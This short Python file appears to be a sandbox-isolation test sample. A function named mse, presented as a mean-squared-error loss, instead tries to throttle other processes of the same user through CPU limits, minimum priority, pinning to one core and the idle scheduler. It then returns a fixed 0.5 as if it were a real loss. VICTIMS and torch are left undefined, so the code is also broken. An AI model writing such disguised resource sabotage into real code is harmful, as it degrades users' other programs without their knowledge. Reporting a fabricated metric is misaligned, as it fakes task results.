"""Takes processor time, priority and limits from other processes of the same user.

levels: namespaces landlock
"""

import os
import resource

SECONDS = 10**9  # that it was set is the harm; a victim that dies of it could not be asked


def mse(pred, target):
    for victim in VICTIMS:
        for attempt in (
            lambda victim=victim: resource.prlimit(victim, resource.RLIMIT_CPU, (SECONDS, SECONDS)),
            lambda victim=victim: os.setpriority(os.PRIO_PROCESS, victim, 19),
            lambda victim=victim: os.sched_setaffinity(victim, {0}),
            lambda victim=victim: os.sched_setscheduler(victim, os.SCHED_IDLE, os.sched_param(0)),
        ):
            try:
                attempt()
            except OSError:
                pass
    return torch.tensor(0.5)
